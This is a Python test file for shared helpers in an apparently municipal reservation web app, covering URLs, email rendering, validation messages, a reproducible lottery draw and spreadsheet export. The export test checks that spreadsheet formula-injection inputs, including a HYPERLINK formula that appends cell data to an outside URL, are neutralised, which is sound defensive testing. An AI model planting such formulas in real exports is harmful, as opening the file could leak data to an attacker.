"""Shared helpers written once in core: absolute URLs, the email path, validation messages, the
verifiable draw."""

from __future__ import annotations

from types import SimpleNamespace

import pytest
from django import forms
from django.core.exceptions import ValidationError

from madoguchi.core import draw, links, notify, validation


def test_absolute_url_reverses_names_and_takes_the_municipalitys_site(settings):
    settings.SITE_URL = "https://madoguchi.example.jp/"
    assert links.absolute_url("reservations:my") == "https://madoguchi.example.jp/reservations/my/"
    assert links.absolute_url("/x/", query={"a": "1 2"}) == "https://madoguchi.example.jp/x/?a=1+2"
    city = SimpleNamespace(site_url="https://b.example.jp")
    assert links.absolute_url("reservations:my", municipality=city) == "https://b.example.jp/reservations/my/"
    assert links.site_url(SimpleNamespace(site_url="")) == "https://madoguchi.example.jp"


def test_send_template_renders_plain_text_without_escaping(db, settings, tmp_path):
    settings.SITE_URL = "https://madoguchi.example.jp"
    subject, body, html = notify.render_template("applications/email/changed", {"submission": {"applicant_name": "A&B <C>"}, "event": {}})
    assert "A&B <C> 様" in body  # plain text is not HTML-escaped
    assert html is None
    assert "\n" not in subject


def test_validation_messages_go_next_to_their_field():
    class F(forms.Form):
        body = forms.CharField()

    f = F(data={"body": "x"})
    f.is_valid()
    validation.add_to_form(f, ValidationError({"body": "本文が長すぎます。", "other": "別の項目"}))
    assert f.errors["body"] == ["本文が長すぎます。"]
    assert f.non_field_errors() == ["別の項目"]
    g = F(data={"body": "x"})
    g.is_valid()
    validation.add_to_form(g, ValidationError("全体の問題"), default_field="body")
    assert g.errors["body"] == ["全体の問題"]
    assert validation.as_dict(ValidationError("x")) == {}
    assert validation.messages_by_field(ValidationError({"__all__": "y"})) == {None: ["y"]}


def test_verifiable_draw_is_reproducible_and_uniformly_ordered():
    secret = "s3cret"
    inputs = sorted(f"resident-{i}" for i in range(50))
    seed = draw.derive_seed(secret, draw.digest(inputs))
    assert draw.verify_commitment(secret, draw.commitment(secret))
    first = draw.sample(seed, inputs, 10)
    assert first == draw.sample(seed, reversed(inputs), 10)  # input order does not matter
    assert len(set(first)) == 10 and set(first) <= set(inputs)
    assert draw.order(seed, inputs) != draw.order(draw.derive_seed("other", draw.digest(inputs)), inputs)
    assert draw.sample(seed, inputs, 0) == [] and draw.sample(seed, inputs, -1) == []


@pytest.mark.parametrize("k", [1, 5])
def test_draw_gives_every_candidate_a_chance(k):
    ids = [str(i) for i in range(6)]
    seen = set()
    for n in range(300):
        seen.update(draw.sample(draw.derive_seed(str(n), "d"), ids, k))
    assert seen == set(ids)


def test_spreadsheet_neutralises_text_and_keeps_numbers():
    import io
    from decimal import Decimal

    from openpyxl import load_workbook

    from madoguchi.core import spreadsheet

    row = ['=HYPERLINK("http://x"&B3,"詳細")', -3000, "-3000", Decimal("-1.5"), "-x", "@SUM(A1)", "普通の文字", None, 0]
    assert spreadsheet.csv_row(row) == ['\'=HYPERLINK("http://x"&B3,"詳細")', "-3000", "-3000", "-1.5", "'-x", "'@SUM(A1)", "普通の文字", "", "0"]
    for write_only in (False, True):
        book = spreadsheet.workbook(write_only=write_only)
        sheet = book.create_sheet("s") if write_only else book.active
        spreadsheet.append(sheet, row)
        buf = io.BytesIO()
        book.save(buf)
        cells = list(load_workbook(io.BytesIO(buf.getvalue())).worksheets[-1].iter_rows(values_only=True))[0]
        assert cells[0].startswith("=HYPERLINK")  # stored as text, not a formula
        assert cells[1] == -3000 and cells[3] == -1.5
    buf = io.StringIO()
    spreadsheet.csv_writer(buf).writerow(row[:2])
    assert buf.getvalue() == '\'=HYPERLINK("http://x"&B3,"詳細")",-3000\r\n'.replace(
        '\'=HYPERLINK("http://x"&B3,"詳細")"', '"\'=HYPERLINK(""http://x""&B3,""詳細"")"'
    )
